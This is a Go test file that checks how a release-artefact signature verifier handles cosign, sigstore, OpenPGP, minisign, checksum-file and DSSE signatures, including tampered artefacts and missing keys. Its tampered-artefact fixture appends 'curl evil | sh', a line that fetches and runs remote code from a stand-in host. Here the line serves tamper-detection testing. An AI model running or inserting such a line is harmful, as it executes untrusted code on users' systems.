package sigverify

import (
	"context"
	"crypto"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"aead.dev/minisign"
	"github.com/google/go-cmp/cmp"
	protobundle "github.com/sigstore/protobuf-specs/gen/pb-go/bundle/v1"
	protocommon "github.com/sigstore/protobuf-specs/gen/pb-go/common/v1"
	protodsse "github.com/sigstore/protobuf-specs/gen/pb-go/dsse"
	"github.com/sigstore/sigstore/pkg/cryptoutils"
	"google.golang.org/protobuf/encoding/protojson"

	"github.com/cemark/cemark/checks"
	svt "github.com/cemark/cemark/checks/internal/sigverify/sigverifytest"
	"github.com/cemark/cemark/evidence/config"
)

type keyFile struct {
	name, kind string
	data       []byte
}

type verifyCase struct {
	name                   string
	files                  map[string][]byte // written below dist/; "app" is the artefact
	keys                   []keyFile
	verdict, method, keyID string
}

func TestVerifyArtifacts(t *testing.T) {
	cosign := svt.NewCosignKey(t)
	otherCosign := svt.NewCosignKey(t)
	pgp := svt.NewPGPKey(t, "release")
	otherPGP := svt.NewPGPKey(t, "stranger")
	mini := svt.NewMinisignKey(t)
	otherMini := svt.NewMinisignKey(t)

	artefact := []byte("#!/bin/sh\necho product v1.2.3\n")
	tampered := []byte("#!/bin/sh\necho product v1.2.3; curl evil | sh\n")

	cases := []verifyCase{
		{
			name:    "cosign blob signature verifies",
			files:   map[string][]byte{"app": artefact, "app.sig": cosign.Sign(t, artefact)},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictVerified, method: MethodCosignBlob, keyID: cosign.Fingerprint,
		},
		{
			name:    "cosign blob signature with a second key given verifies with the right one",
			files:   map[string][]byte{"app": artefact, "app.sig": cosign.Sign(t, artefact)},
			keys:    []keyFile{{"a.pub", "", otherCosign.PubPEM}, {"b.pub", "cosign", cosign.PubPEM}},
			verdict: VerdictVerified, method: MethodCosignBlob, keyID: cosign.Fingerprint,
		},
		{
			name:    "cosign: tampered artefact",
			files:   map[string][]byte{"app": tampered, "app.sig": cosign.Sign(t, artefact)},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictBadSignature, method: MethodCosignBlob,
		},
		{
			name:    "cosign: signature of another file",
			files:   map[string][]byte{"app": artefact, "app.sig": cosign.Sign(t, []byte("other"))},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictBadSignature, method: MethodCosignBlob,
		},
		{
			name:    "cosign: garbage signature",
			files:   map[string][]byte{"app": artefact, "app.sig": []byte("not base64 at all!")},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictBadSignature, method: MethodCosignBlob,
		},
		{
			name:    "cosign: no key given",
			files:   map[string][]byte{"app": artefact, "app.sig": cosign.Sign(t, artefact)},
			verdict: VerdictUnverifiable, method: MethodCosignBlob,
		},
		{
			name:    "unsigned",
			files:   map[string][]byte{"app": artefact},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictUnsigned,
		},
		{
			name:    "legacy cosign bundle JSON",
			files:   map[string][]byte{"app": artefact, "app.bundle": []byte(`{"base64Signature":"` + string(cosign.Sign(t, artefact)) + `"}`)},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictVerified, method: MethodCosignBlob, keyID: cosign.Fingerprint,
		},
		{
			name:    "sigstore bundle verifies",
			files:   map[string][]byte{"app": artefact, "app.sigstore.json": cosign.Bundle(t, artefact)},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictVerified, method: MethodSigstoreBundle, keyID: cosign.Fingerprint,
		},
		{
			name:    "sigstore bundle: tampered artefact",
			files:   map[string][]byte{"app": tampered, "app.sigstore.json": cosign.Bundle(t, artefact)},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictBadSignature, method: MethodSigstoreBundle,
		},
		{
			name:    "sigstore bundle: wrong key",
			files:   map[string][]byte{"app": artefact, "app.sigstore.json": cosign.Bundle(t, artefact)},
			keys:    []keyFile{{"other.pub", "", otherCosign.PubPEM}},
			verdict: VerdictBadSignature, method: MethodSigstoreBundle,
		},
		{
			name:    "sigstore bundle: no key",
			files:   map[string][]byte{"app": artefact, "app.sigstore.json": cosign.Bundle(t, artefact)},
			verdict: VerdictUnverifiable, method: MethodSigstoreBundle,
		},
		{
			name:    "sigstore bundle: not a bundle",
			files:   map[string][]byte{"app": artefact, "app.sigstore.json": []byte(`{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json"}`)},
			keys:    []keyFile{{"cosign.pub", "", cosign.PubPEM}},
			verdict: VerdictBadSignature, method: MethodSigstoreBundle,
		},
		{
			name:    "openpgp armored .asc verifies",
			files:   map[string][]byte{"app": artefact, "app.asc": pgp.SignArmored(t, artefact)},
			keys:    []keyFile{{"release.asc", "", pgp.Pub}},
			verdict: VerdictVerified, method: MethodOpenPGP, keyID: pgp.Fingerprint,
		},
		{
			name:    "openpgp binary .sig with a binary keyring verifies",
			files:   map[string][]byte{"app": artefact, "app.sig": pgp.SignBinary(t, artefact)},
			keys:    []keyFile{{"release.gpg", "pgp", pgp.BinaryKeyring(t)}},
			verdict: VerdictVerified, method: MethodOpenPGP, keyID: pgp.Fingerprint,
		},
		{
			name:    "openpgp: tampered artefact",
			files:   map[string][]byte{"app": tampered, "app.asc": pgp.SignArmored(t, artefact)},
			keys:    []keyFile{{"release.asc", "", pgp.Pub}},
			verdict: VerdictBadSignature, method: MethodOpenPGP,
		},
		{
			name:    "openpgp: signed by a key not in the keyring",
			files:   map[string][]byte{"app": artefact, "app.asc": otherPGP.SignArmored(t, artefact)},
			keys:    []keyFile{{"release.asc", "", pgp.Pub}},
			verdict: VerdictUnverifiable, method: MethodOpenPGP,
		},
		{
			name:    "openpgp: no keyring",
			files:   map[string][]byte{"app": artefact, "app.sig": pgp.SignBinary(t, artefact)},
			verdict: VerdictUnverifiable, method: MethodOpenPGP,
		},
		{
			name:    "minisign pre-hashed verifies",
			files:   map[string][]byte{"app": artefact, "app.minisig": mini.SignHashed(artefact)},
			keys:    []keyFile{{"minisign.pub", "", mini.Pub}},
			verdict: VerdictVerified, method: MethodMinisign, keyID: mini.ID,
		},
		{
			name:    "minisign legacy verifies",
			files:   map[string][]byte{"app": artefact, "app.minisig": minisign.Sign(mini.Priv, artefact)},
			keys:    []keyFile{{"minisign.pub", "minisign", mini.Pub}},
			verdict: VerdictVerified, method: MethodMinisign, keyID: mini.ID,
		},
		{
			name:    "minisign: tampered artefact",
			files:   map[string][]byte{"app": tampered, "app.minisig": mini.SignHashed(artefact)},
			keys:    []keyFile{{"minisign.pub", "", mini.Pub}},
			verdict: VerdictBadSignature, method: MethodMinisign,
		},
		{
			name:    "minisign: other key",
			files:   map[string][]byte{"app": artefact, "app.minisig": otherMini.SignHashed(artefact)},
			keys:    []keyFile{{"minisign.pub", "", mini.Pub}},
			verdict: VerdictUnverifiable, method: MethodMinisign,
		},
		func() verifyCase {
			sums := []byte(svt.SHA256Hex(artefact) + "  app\n" + svt.SHA256Hex([]byte("x")) + "  other\n")
			return struct {
				name                   string
				files                  map[string][]byte
				keys                   []keyFile
				verdict, method, keyID string
			}{"signed checksums.txt verifies", map[string][]byte{"app": artefact, "checksums.txt": sums, "checksums.txt.sig": cosign.Sign(t, sums)},
				[]keyFile{{"cosign.pub", "", cosign.PubPEM}}, VerdictVerified, MethodChecksums, cosign.Fingerprint}
		}(),
	}
	// Checksum cases built with their own content.
	sums := []byte(svt.SHA256Hex(artefact) + "  app\n")
	sumsTamperedLine := []byte(svt.SHA256Hex(tampered) + "  app\n")
	cases = append(cases,
		verifyCase{"SHA256SUMS signed with minisign verifies", map[string][]byte{"app": artefact, "SHA256SUMS": sums, "SHA256SUMS.minisig": mini.SignHashed(sums)},
			[]keyFile{{"minisign.pub", "", mini.Pub}}, VerdictVerified, MethodChecksums, mini.ID},
		verifyCase{"SHA256SUMS with OpenPGP .asc verifies", map[string][]byte{"app": artefact, "SHA256SUMS": sums, "SHA256SUMS.asc": pgp.SignArmored(t, sums)},
			[]keyFile{{"release.asc", "", pgp.Pub}}, VerdictVerified, MethodChecksums, pgp.Fingerprint},
		verifyCase{"checksums: tampered artefact", map[string][]byte{"app": tampered, "checksums.txt": sums, "checksums.txt.sig": cosign.Sign(t, sums)},
			[]keyFile{{"cosign.pub", "", cosign.PubPEM}}, VerdictDigestMismatch, MethodChecksums, ""},
		verifyCase{"checksums: tampered line, re-signed file still mismatches", map[string][]byte{"app": artefact, "myapp_1.0_checksums.txt": sumsTamperedLine, "myapp_1.0_checksums.txt.sig": cosign.Sign(t, sumsTamperedLine)},
			[]keyFile{{"cosign.pub", "", cosign.PubPEM}}, VerdictDigestMismatch, MethodChecksums, ""},
		verifyCase{"checksums: line altered after signing", map[string][]byte{"app": tampered, "checksums.txt": sumsTamperedLine, "checksums.txt.sig": cosign.Sign(t, sums)},
			[]keyFile{{"cosign.pub", "", cosign.PubPEM}}, VerdictBadSignature, MethodChecksums, ""},
		verifyCase{"checksums: unsigned checksum file", map[string][]byte{"app": artefact, "SHA256SUMS": sums},
			[]keyFile{{"cosign.pub", "", cosign.PubPEM}}, VerdictUnsigned, "", ""},
		verifyCase{"checksums: signed but no key", map[string][]byte{"app": artefact, "checksums.txt": sums, "checksums.txt.sig": cosign.Sign(t, sums)},
			nil, VerdictUnverifiable, MethodChecksums, ""},
		verifyCase{"good signature beside a bad one fails", map[string][]byte{"app": artefact, "app.sig": cosign.Sign(t, artefact), "app.minisig": mini.SignHashed(tampered)},
			[]keyFile{{"cosign.pub", "", cosign.PubPEM}, {"minisign.pub", "", mini.Pub}}, VerdictBadSignature, MethodMinisign, ""},
	)

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			for name, data := range tc.files {
				svt.Write(t, root, "dist/"+name, data)
			}
			// Keys with a kind come from cemark.yaml (relative path, type
			// given); the others from --update-key (absolute, type inferred).
			var keyPaths []string
			var declared []config.UpdateKey
			for _, k := range tc.keys {
				p := svt.Write(t, root, "keys/"+k.name, k.data)
				if k.kind != "" {
					declared = append(declared, config.UpdateKey{Name: k.name, Type: k.kind, Path: "keys/" + k.name})
					continue
				}
				keyPaths = append(keyPaths, p)
			}
			keys := LoadKeys(root, declared, keyPaths)
			if len(keys.Errors) > 0 {
				t.Fatalf("key errors: %v", keys.Errors)
			}
			v := &Verifier{Keys: keys, Root: root, Now: time.Now()}
			got := v.VerifyArtifacts(context.Background(), []string{filepath.Join(root, "dist", "app")})
			if len(got) != 1 {
				t.Fatalf("got %d verdicts, want 1", len(got))
			}
			g := got[0]
			if g.Verdict != tc.verdict || g.Method != tc.method || g.KeyID != tc.keyID {
				t.Errorf("verdict %q method %q key %q, want %q %q %q (detail: %s)", g.Verdict, g.Method, g.KeyID, tc.verdict, tc.method, tc.keyID, g.Detail)
			}
			if g.Path != "dist/app" {
				t.Errorf("path %q, want dist/app", g.Path)
			}
			if want := svt.SHA256Hex(tc.files["app"]); g.SHA256 != want {
				t.Errorf("sha256 %s, want %s", g.SHA256, want)
			}
		})
	}
}

func TestParseKeyFingerprints(t *testing.T) {
	c := svt.NewCosignKey(t)
	k, err := ParseKey(c.PubPEM, "")
	if err != nil || k.Kind != KeyCosign || k.Fingerprint != c.Fingerprint {
		t.Fatalf("cosign key: %+v, %v", k.Fingerprint, err)
	}
	der, _ := cryptoutils.MarshalPublicKeyToDER(c.Priv.Public())
	if sum := sha256.Sum256(der); hex.EncodeToString(sum[:]) != k.Fingerprint {
		t.Errorf("fingerprint is not the SHA-256 of the DER key")
	}
	if _, err := ParseKey([]byte("hello"), ""); err == nil {
		t.Error("garbage key accepted")
	}
	if _, err := ParseKey([]byte("-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n"), ""); err == nil {
		t.Error("broken PEM accepted")
	}
	for _, priv := range []string{"-----BEGIN " + "EC PRIVATE KEY-----\nMHc=\n-----END EC PRIVATE KEY-----\n", "-----BEGIN " + "PGP PRIVATE KEY BLOCK-----\n\n-----END PGP PRIVATE KEY BLOCK-----\n", "untrusted comment: minisign encrypted secret key\nRWQ=\n"} {
		if _, err := ParseKey([]byte(priv), ""); err == nil || !strings.Contains(err.Error(), "private key") || strings.Contains(err.Error(), "MHc") {
			t.Errorf("private key %q: error %v", priv[:30], err)
		}
	}
	if NormalizeFingerprint("SHA256:AB:CD ef") != "abcdef" {
		t.Error("NormalizeFingerprint")
	}
	_ = crypto.SHA256
}

// TestOpenPGPSignedAfterReferenceTime: the run's reference time is the
// commit time, and releases are signed after the commit. A signature made
// later than the reference time still verifies; the key is judged when it
// signed.
func TestOpenPGPSignedAfterReferenceTime(t *testing.T) {
	pgp := svt.NewPGPKey(t, "release")
	artefact := []byte("payload")
	root := t.TempDir()
	app := svt.Write(t, root, "dist/app", artefact)
	svt.Write(t, root, "dist/app.asc", pgp.SignArmored(t, artefact))
	tool := svt.Write(t, root, "dist/tool", artefact)
	svt.Write(t, root, "dist/tool.sig", pgp.SignBinary(t, artefact))
	keys := LoadKeys(root, nil, []string{svt.Write(t, root, "k.asc", pgp.Pub)})
	v := &Verifier{Keys: keys, Root: root, Now: time.Now().Add(-48 * time.Hour)}
	for _, got := range v.VerifyArtifacts(context.Background(), []string{app, tool}) {
		if got.Verdict != VerdictVerified {
			t.Errorf("%s: %s (%s), want verified", got.Path, got.Verdict, got.Detail)
		}
	}
	if _, ok := OpenPGPSignatureTime([]byte("garbage")); ok {
		t.Error("signature time read from garbage")
	}
}

// TestKeylessBundle: a bundle whose verification material is a
// certificate needs a trusted root; without one it is unverifiable here,
// never verified and never "bad".
func TestKeylessBundle(t *testing.T) {
	key := svt.NewCosignKey(t)
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "sigstore-intermediate"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Priv.Public(), key.Priv)
	if err != nil {
		t.Fatal(err)
	}
	artefact := []byte("payload")
	d := sha256.Sum256(artefact)
	b := &protobundle.Bundle{
		MediaType: "application/vnd.dev.sigstore.bundle.v0.3+json",
		VerificationMaterial: &protobundle.VerificationMaterial{
			Content: &protobundle.VerificationMaterial_Certificate{Certificate: &protocommon.X509Certificate{RawBytes: der}},
		},
		Content: &protobundle.Bundle_MessageSignature{MessageSignature: &protocommon.MessageSignature{
			MessageDigest: &protocommon.HashOutput{Algorithm: protocommon.HashAlgorithm_SHA2_256, Digest: d[:]},
			Signature:     key.SignRaw(t, artefact),
		}},
	}
	data, err := protojson.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	app := svt.Write(t, root, "dist/app", artefact)
	svt.Write(t, root, "dist/app.sigstore.json", data)
	for _, tc := range []struct{ name, trusted, detail string }{
		{"no trusted root", "", "no trusted root given"},
		{"unreadable trusted root", svt.Write(t, root, "trusted_root.json", []byte("{not json")), "could not be read"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := &Verifier{Keys: &Keyring{}, Root: root, TrustedRoot: tc.trusted, Now: time.Now()}
			got := v.VerifyArtifacts(context.Background(), []string{app})[0]
			if got.Verdict != VerdictUnverifiable || got.Method != MethodSigstoreBundle || !strings.Contains(got.Detail, tc.detail) {
				t.Errorf("got %s/%s %q, want unverifiable sigstore-bundle mentioning %q", got.Verdict, got.Method, got.Detail, tc.detail)
			}
		})
	}
}

func TestParseChecksums(t *testing.T) {
	a, b := strings.Repeat("a", 64), strings.Repeat("B", 128)
	got := parseChecksums([]byte("# comment\n" + a + "  dist/app\n" + b + " *tool.exe\nSHA256 (bsd.tar) = " + a + "\nnot a line\nzz  x\n"))
	want := map[string]string{"app": a, "tool.exe": strings.ToLower(b), "bsd.tar": a}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("mismatch (-want +got):\n%s", diff)
	}
}

func FuzzParseChecksums(f *testing.F) {
	f.Add([]byte(strings.Repeat("a", 64) + "  app\n"))
	f.Add([]byte("SHA256 (x) = " + strings.Repeat("0", 64) + "\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for name, sum := range parseChecksums(data) {
			if len(sum) != 64 && len(sum) != 128 || strings.Contains(name, "/") {
				t.Fatalf("bad entry %q %q", name, sum)
			}
		}
	})
}

func FuzzSignatureFormats(f *testing.F) {
	f.Add([]byte("MEUCIQ=="), ".sig")
	f.Add([]byte("-----BEGIN PGP SIGNATURE-----\n\n-----END PGP SIGNATURE-----\n"), ".asc")
	f.Add([]byte("untrusted comment: x\nRWQ=\n"), ".minisig")
	f.Add([]byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}`), ".sigstore.json")
	f.Fuzz(func(t *testing.T, sig []byte, suffix string) {
		root := t.TempDir()
		app := svt.Write(t, root, "app", []byte("payload"))
		name := "app.sig"
		for _, known := range signatureSuffixes {
			if suffix == known {
				name = "app" + suffix
			}
		}
		svt.Write(t, root, name, sig)
		v := &Verifier{Keys: &Keyring{}, Root: root, Now: time.Unix(0, 0)}
		got := v.VerifyArtifacts(context.Background(), []string{app})
		if len(got) != 1 || got[0].Verdict == VerdictVerified {
			t.Fatalf("garbage verified without a key: %+v", got)
		}
	})
}

// TestKeylessCosignSignature: `cosign sign-blob --output-certificate`
// leaves a certificate beside the signature. The signature is checked
// against the certificate's key (tampering is caught); the chain is not
// verified offline, so an intact one is "unverifiable", not "verified".
func TestKeylessCosignSignature(t *testing.T) {
	signer := svt.NewCosignKey(t)
	other := svt.NewCosignKey(t)
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(7), EmailAddresses: []string{"release@acme.example"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, signer.Priv.Public(), signer.Priv)
	if err != nil {
		t.Fatal(err)
	}
	certPEM, err := cryptoutils.MarshalCertificateToPEM(&x509.Certificate{Raw: der})
	if err != nil {
		t.Fatal(err)
	}
	artefact := []byte("payload")
	cases := []struct {
		name     string
		content  []byte
		cert     []byte
		keys     [][]byte
		verdict  string
		inDetail string
	}{
		{"PEM certificate", artefact, certPEM, nil, VerdictUnverifiable, "release@acme.example"},
		{"base64 PEM certificate (goreleaser)", artefact, []byte(base64.StdEncoding.EncodeToString(certPEM)), nil, VerdictUnverifiable, "not verified offline"},
		{"another key given", artefact, certPEM, [][]byte{other.PubPEM}, VerdictUnverifiable, "release@acme.example"},
		{"tampered artefact", []byte("payload!"), certPEM, nil, VerdictBadSignature, "does not match the certificate"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			app := svt.Write(t, root, "dist/app", tc.content)
			svt.Write(t, root, "dist/app.sig", signer.Sign(t, artefact))
			svt.Write(t, root, "dist/app.pem", tc.cert)
			var kp []string
			for i, k := range tc.keys {
				kp = append(kp, svt.Write(t, root, fmt.Sprintf("k%d.pub", i), k))
			}
			v := &Verifier{Keys: LoadKeys(root, nil, kp), Root: root, Now: time.Now()}
			got := v.VerifyArtifacts(context.Background(), []string{app})[0]
			if got.Verdict != tc.verdict || got.Method != MethodCosignBlob || !strings.Contains(got.Detail, tc.inDetail) {
				t.Errorf("got %s/%s %q, want %s mentioning %q", got.Verdict, got.Method, got.Detail, tc.verdict, tc.inDetail)
			}
		})
	}
}

// TestDSSEBundle: an attestation bundle (DSSE envelope holding an in-toto
// statement, as `cosign attest-blob --new-bundle-format` writes) verifies
// an artefact when the signature verifies and the artefact's digest is a
// subject of the statement.
func TestDSSEBundle(t *testing.T) {
	key := svt.NewCosignKey(t)
	artefact := []byte("payload")
	makeBundle := func(subject []byte, alterAfterSigning bool) []byte {
		stmt := `{"_type":"https://in-toto.io/Statement/v1","subject":[{"name":"app","digest":{"sha256":"` + svt.SHA256Hex(subject) +
			`"}}],"predicateType":"https://slsa.dev/provenance/v1","predicate":{"buildDefinition":{}}}`
		const payloadType = "application/vnd.in-toto+json"
		pae := fmt.Sprintf("DSSEv1 %d %s %d %s", len(payloadType), payloadType, len(stmt), stmt)
		sig := key.SignRaw(t, []byte(pae))
		if alterAfterSigning {
			stmt = strings.Replace(stmt, "buildDefinition", "buildDefinitioX", 1)
		}
		b := &protobundle.Bundle{
			MediaType: "application/vnd.dev.sigstore.bundle.v0.3+json",
			VerificationMaterial: &protobundle.VerificationMaterial{
				Content: &protobundle.VerificationMaterial_PublicKey{PublicKey: &protocommon.PublicKeyIdentifier{Hint: key.Fingerprint}},
			},
			Content: &protobundle.Bundle_DsseEnvelope{DsseEnvelope: &protodsse.Envelope{
				Payload: []byte(stmt), PayloadType: payloadType,
				Signatures: []*protodsse.Signature{{Sig: sig}},
			}},
		}
		out, err := protojson.Marshal(b)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	cases := []struct {
		name    string
		content []byte
		bundle  []byte
		verdict string
	}{
		{"subject matches", artefact, makeBundle(artefact, false), VerdictVerified},
		{"artefact changed", []byte("payload!"), makeBundle(artefact, false), VerdictBadSignature},
		{"statement altered after signing", artefact, makeBundle(artefact, true), VerdictBadSignature},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			app := svt.Write(t, root, "dist/app", tc.content)
			svt.Write(t, root, "dist/app.sigstore.json", tc.bundle)
			v := &Verifier{Keys: LoadKeys(root, nil, []string{svt.Write(t, root, "k.pub", key.PubPEM)}), Root: root, Now: time.Now()}
			got := v.VerifyArtifacts(context.Background(), []string{app})[0]
			if got.Verdict != tc.verdict || got.Method != MethodSigstoreBundle {
				t.Errorf("got %s/%s (%s), want %s", got.Verdict, got.Method, got.Detail, tc.verdict)
			}
		})
	}
}

// TestKeysParsedOncePerRun: every family that asks for the run's keyring
// gets the same one, read from disk once; a key file removed after the
// first family asked changes nothing for the second.
func TestKeysParsedOncePerRun(t *testing.T) {
	root := t.TempDir()
	cosign, pgp := svt.NewCosignKey(t), svt.NewPGPKey(t, "security")
	svt.Write(t, root, "keys/release.pub", cosign.PubPEM)
	extra := svt.Write(t, t.TempDir(), "security.asc", pgp.Pub)
	cfg := &config.Config{Updates: config.Updates{Keys: []config.UpdateKey{{Name: "release", Path: "keys/release.pub", Fingerprint: cosign.Fingerprint}}}}
	tg, err := checks.NewTarget(context.Background(), root, cfg)
	if err != nil {
		t.Fatal(err)
	}
	tg.UpdateKeys = []string{extra}
	first := Keys(tg)
	if len(first.Keys) != 2 || len(first.Errors) != 0 || !first.Keys[0].DeclaredMatches() || len(first.OpenPGP()) != 1 {
		t.Fatalf("keyring: %+v", first)
	}
	if err := os.Remove(extra); err != nil {
		t.Fatal(err)
	}
	if again := Keys(tg); again != first {
		t.Error("the keyring was built twice in one run")
	}
}
